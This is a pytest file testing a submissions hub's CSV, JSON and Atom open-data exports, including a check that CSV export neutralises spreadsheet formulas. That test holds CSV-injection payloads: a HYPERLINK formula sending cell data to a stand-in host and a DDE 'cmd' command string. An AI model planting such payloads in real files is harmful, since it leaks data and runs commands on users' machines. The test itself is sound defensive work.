"""Bulk open data as a consumer reads it: /export.csv, /export.json and /feed.atom."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import datetime, timedelta

import pytest

from hub.api.serialize import LIST_FIELDS, PUBLIC_FIELDS
from hub.auth.models import User
from hub.extensions import db
from hub.submissions.models import Status, Submission

from helpers import full_content

ATOM = "{http://www.w3.org/2005/Atom}"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def owner(create_user):
    return create_user()


@pytest.fixture
def published(owner, create_submission_for):
    """Three approved submissions (oldest first) and a hidden one."""
    a = create_submission_for(
        owner,
        Status.APPROVED,
        title="Écoles numériques pour tous",
        summary="Former les enseignants à l'IA — ça marche.",
        countries=["FR", "SN"],
        sdgs=[4, 17],
        themes=["education"],
        partners="Université Gaston-Berger\nÉcole 42",
    )
    b = create_submission_for(
        owner,
        Status.APPROVED,
        kind="coalition",
        title="Fish & chips <fast> \"quoted\" 'single'",
        summary="Less-than < and greater-than > & ampersand.",
        lead_organisation="R&D <Lab>",
        countries=["KE"],
        sdgs=[13],
        start_date=None,
        end_date=None,
        language=None,
        stakeholder_group=None,
    )
    c = create_submission_for(
        owner,
        Status.APPROVED,
        kind="partnership",
        title="中文 and العربية titles",
        countries=["CN", "EG"],
        sdgs=[],
    )
    hidden = create_submission_for(owner, Status.SUBMITTED, title="Hidden pending walrus")
    return a, b, c, hidden


def csv_rows(response) -> list[list[str]]:
    """The rows of a CSV answer (BOM checked and removed)."""
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:10]
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def api_items(client) -> dict[str, dict]:
    """Every approved submission as the API gives it, by slug."""
    body = client.get("/api/v1/submissions", query_string={"per_page": 100}).get_json()
    assert body["total"] <= 100
    return {item["slug"]: item for item in body["items"]}


def as_csv_cell(name: str, value: object) -> str:
    """What the CSV holds for an API value (before any formula neutralising)."""
    if name in LIST_FIELDS:
        return "; ".join(map(str, value))
    return "" if value is None else str(value)


# -- CSV ----------------------------------------------------------------------------------


def test_csv_has_one_row_per_approved_submission_in_a_stable_order(client, published):
    response = client.get("/export.csv")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == "attachment; filename=submissions.csv"
    rows = csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header == [*PUBLIC_FIELDS, "url"]
    a, b, c, _ = published
    assert [r[0] for r in body] == [a.slug, b.slug, c.slug]  # oldest first, every time
    assert "walrus" not in response.get_data(as_text=True)
    assert "ada@example.org" not in response.get_data(as_text=True)  # contact e-mail
    # The same values as the API, lists joined with "; ", accents and scripts intact.
    items = api_items(client)
    for row in body:
        record = dict(zip(header, row, strict=True))
        item = items[record["slug"]]
        assert record == {name: as_csv_cell(name, item[name]) for name in header}
    first = dict(zip(header, body[0], strict=True))
    assert first["title"] == "Écoles numériques pour tous"
    assert first["countries"] == "FR; SN" and first["sdgs"] == "4; 17"
    assert first["partners"] == "Université Gaston-Berger\nÉcole 42"
    third = dict(zip(header, body[2], strict=True))
    assert third["title"] == "中文 and العربية titles" and third["sdgs"] == ""
    assert third["url"].endswith(f"/s/{c.slug}")


def test_empty_exports_are_still_valid(client):
    assert csv_rows(client.get("/export.csv")) == [[*PUBLIC_FIELDS, "url"]]
    assert client.get("/export.json").get_json() == []
    feed = ET.fromstring(client.get("/feed.atom").get_data())
    assert feed.tag == f"{ATOM}feed" and feed.findall(f"{ATOM}entry") == []


def test_exports_are_streamed(client, owner, create_submission_for):
    long_text = "Long description of the programme. " * 500  # ~17 KB per row
    for n in range(3):
        create_submission_for(owner, Status.APPROVED, title=f"Long one {n}", description=long_text)
    for url in ("/export.csv", "/export.json"):
        whole = client.get(url).get_data()
        response = client.get(url, buffered=False)
        try:
            assert response.is_streamed and "Content-Length" not in response.headers
            chunks = [bytes(c) if isinstance(c, bytes) else c.encode() for c in response.response]
        finally:
            response.close()
        assert len(chunks) > 3, url  # sent piece by piece, not built whole first
        assert b"".join(chunks) == whole


def test_csv_neutralises_spreadsheet_formulas(client, owner, create_submission_for):
    """Text starting with = + - @ is shown, not run, by spreadsheets (CSV injection); the
    JSON export and the API keep the text exactly as written."""
    risky = {
        "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "summary": "+1+1 people",
        "description": "- first point\n- second point",
        "lead_organisation": "@SUM(A1:A9)",
        "partners": "\t=cmd|' /C calc'!A0",
        "contact_name": "=Ada",
        "objectives": "Plain text with = inside",
    }
    s = create_submission_for(owner, Status.APPROVED, **risky)
    rows = csv_rows(client.get("/export.csv"))
    record = dict(zip(rows[0], rows[1], strict=True))
    # A formula start after a line break or tab is neutralised too (a spreadsheet may split
    # there: tests/security/test_csv_formulas.py).
    neutralised = {
        "description": "'- first point\n'- second point",
        "partners": "'\t'=cmd|' /C calc'!A0",
    }
    for name, text in risky.items():
        if name in neutralised:
            assert record[name] == neutralised[name], name
        elif text.startswith(FORMULA_STARTS):
            assert record[name] == "'" + text, name
        else:
            assert record[name] == text, name
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    exported = client.get("/export.json").get_json()[0]
    item = client.get(f"/api/v1/submissions/{s.slug}").get_json()
    for name, text in risky.items():
        assert exported[name] == item[name] == text


# -- JSON ---------------------------------------------------------------------------------


def test_json_export_is_the_api_records(client, published):
    response = client.get("/export.json")
    assert response.status_code == 200
    assert response.content_type == "application/json; charset=utf-8"
    text = response.get_data().decode("utf-8")  # strict: raises on anything but UTF-8
    assert "Écoles numériques" in text and "中文" in text  # UTF-8, not \u escapes
    records = json.loads(text)
    assert isinstance(records, list)
    a, b, c, _ = published
    assert [r["slug"] for r in records] == [a.slug, b.slug, c.slug]
    items = api_items(client)
    assert records == [items[r["slug"]] for r in records]
    assert "walrus" not in text and "ada@example.org" not in text


# -- Atom ---------------------------------------------------------------------------------


def parse_feed(client) -> ET.Element:
    response = client.get("/feed.atom")
    assert response.status_code == 200
    assert response.content_type == "application/atom+xml; charset=utf-8"
    return ET.fromstring(response.get_data())  # raises on XML that is not well-formed


def entries(feed: ET.Element) -> list[dict[str, str]]:
    return [
        {
            "title": e.findtext(f"{ATOM}title"),
            "id": e.findtext(f"{ATOM}id"),
            "updated": e.findtext(f"{ATOM}updated"),
            "summary": e.findtext(f"{ATOM}summary"),
            "author": e.findtext(f"{ATOM}author/{ATOM}name"),
            "link": e.find(f"{ATOM}link").get("href"),
        }
        for e in feed.findall(f"{ATOM}entry")
    ]


def test_feed_lists_latest_approved_first_with_escaped_text(client, published):
    feed = parse_feed(client)
    assert feed.tag == f"{ATOM}feed"
    assert feed.findtext(f"{ATOM}title") and feed.findtext(f"{ATOM}id")
    self_link = [link for link in feed.findall(f"{ATOM}link") if link.get("rel") == "self"]
    assert self_link and self_link[0].get("href").endswith("/feed.atom")
    a, b, c, _ = published
    got = entries(feed)
    assert [e["title"] for e in got] == [c.title, b.title, a.title]
    assert got[1]["title"] == "Fish & chips <fast> \"quoted\" 'single'"  # exact, after parsing
    assert got[1]["summary"] == "Less-than < and greater-than > & ampersand."
    assert got[1]["author"] == "R&D <Lab>"
    assert got[0]["link"].endswith(f"/s/{c.slug}") and got[0]["id"] == got[0]["link"]
    times = [datetime.fromisoformat(e["updated"].replace("Z", "+00:00")) for e in got]
    assert times == sorted(times, reverse=True)
    assert feed.findtext(f"{ATOM}updated") == got[0]["updated"]
    raw = client.get("/feed.atom").get_data(as_text=True)
    assert "walrus" not in raw and "ada@example.org" not in raw
    assert "<fast>" not in raw  # escaped in the XML itself


def test_feed_moves_an_approved_revision_to_the_top(app, client, published, create_user):
    from hub.moderation.operations import decide_revision
    from hub.submissions.operations import pending_revision, update_submission

    a, b, c, _ = published
    moderator = create_user(role="moderator")
    with app.test_request_context():
        s = db.session.get(Submission, a.id)
        update_submission(
            s,
            full_content(title="Écoles numériques, deuxième phase", start_date=None, end_date=None),
            submit=True,
            actor=db.session.get(User, s.owner_id),
        )
        db.session.commit()
    assert [e["title"] for e in entries(parse_feed(client))][-1] == a.title  # not yet
    with app.test_request_context():
        decide_revision(
            pending_revision(db.session.get(Submission, a.id)),
            db.session.get(User, moderator.id),
            approve=True,
        )
        db.session.commit()
    titles = [e["title"] for e in entries(parse_feed(client))]
    assert titles == ["Écoles numériques, deuxième phase", c.title, b.title]


def test_feed_is_bounded(client, published, monkeypatch):
    monkeypatch.setattr("hub.api.opendata.FEED_SIZE", 2)
    a, b, c, _ = published
    assert [e["title"] for e in entries(parse_feed(client))] == [c.title, b.title]


def test_feed_stays_well_formed_with_characters_xml_forbids(client, owner, create_submission_for):
    """U+FFFE/U+FFFF pass the forms' control-character cleaning, and older rows may hold
    C0 controls; one such title must not break the whole feed for every reader."""
    create_submission_for(
        owner,
        Status.APPROVED,
        title="Odd\uffff title\ufffe here\x0b",
        summary="Bell\x07 and escape\x1b in the summary",
        lead_organisation="Org\x01",
    )
    got = entries(parse_feed(client))
    assert got[0]["title"] == "Odd title here"
    assert got[0]["summary"] == "Bell and escape in the summary"
    assert got[0]["author"] == "Org"


# -- Dates of first publication and of the last public change --------------------------------


def test_an_approved_update_keeps_the_first_publication_date(
    app, client, clock, owner, create_user, create_submission_for
):
    """published_at is the first approval and stays; updated_at is the last change of the
    public version (an approved update), never an edit the public does not see. The API,
    both exports, the feed and the public page agree."""
    from hub.moderation import operations as ops
    from hub.submissions.operations import pending_revision, update_submission

    moderator = create_user(role="moderator")
    item = create_submission_for(owner, Status.SUBMITTED, title="First version")
    approved, edited, updated = (
        datetime.fromisoformat(t)
        for t in (
            "2026-03-02T09:00:00+00:00",
            "2026-04-01T08:00:00+00:00",
            "2026-04-20T15:30:00+00:00",
        )
    )

    def act(at: datetime, change) -> None:
        clock.freeze(at)
        with app.app_context():
            change(db.session.get(Submission, item.id), db.session.get(User, moderator.id))
            db.session.commit()

    def dates() -> dict[str, tuple[str, str]]:
        """(published, updated) as each public format gives them."""
        slug = db_slug()
        api = client.get(f"/api/v1/submissions/{slug}").get_json()
        [exported] = client.get("/export.json").get_json()
        rows = csv_rows(client.get("/export.csv"))
        record = dict(zip(rows[0], rows[1], strict=True))
        [entry] = ET.fromstring(client.get("/feed.atom").get_data()).findall(f"{ATOM}entry")
        return {
            "api": (api["published_at"], api["updated_at"]),
            "json": (exported["published_at"], exported["updated_at"]),
            "csv": (record["published_at"], record["updated_at"]),
            "atom": (entry.findtext(f"{ATOM}published"), entry.findtext(f"{ATOM}updated")),
        }

    def db_slug() -> str:
        with app.app_context():
            return db.session.get(Submission, item.id).slug

    def everywhere(published: datetime, last: datetime) -> dict[str, tuple[str, str]]:
        stamp = {t: t.isoformat().replace("+00:00", "Z") for t in (published, last)}
        return dict.fromkeys(("api", "json", "csv", "atom"), (stamp[published], stamp[last]))

    act(approved, lambda s, m: ops.approve_submission(s, m))
    assert dates() == everywhere(approved, approved)

    def edit(s: Submission, _m: User) -> None:
        update_submission(
            s,
            full_content(title="Second version", start_date=None, end_date=None),
            submit=True,
            actor=db.session.get(User, s.owner_id),
        )

    act(edited, edit)  # a pending update: the public sees nothing of it
    assert dates() == everywhere(approved, approved)
    act(updated, lambda s, m: ops.decide_revision(pending_revision(s), m, approve=True))
    assert dates() == everywhere(approved, updated)
    act(updated + timedelta(days=3), edit)
    act(
        updated + timedelta(days=4),
        lambda s, m: ops.decide_revision(
            pending_revision(s), m, approve=False, message="Keep the second version."
        ),
    )
    assert dates() == everywhere(approved, updated)  # a refused update changes nothing public

    page = client.get(f"/s/{db_slug()}").get_data(as_text=True)
    assert 'Published <time datetime="2026-03-02T10:00:00+01:00">' in page  # Geneva time
    assert 'Last updated <time datetime="2026-04-20T17:30:00+02:00">' in page
    listing = client.get("/browse").get_data(as_text=True)
    assert 'published <time datetime="2026-03-02T10:00:00+01:00">2 March 2026</time>' in listing
    assert 'updated <time datetime="2026-04-20T17:30:00+02:00">20 April 2026</time>' in listing
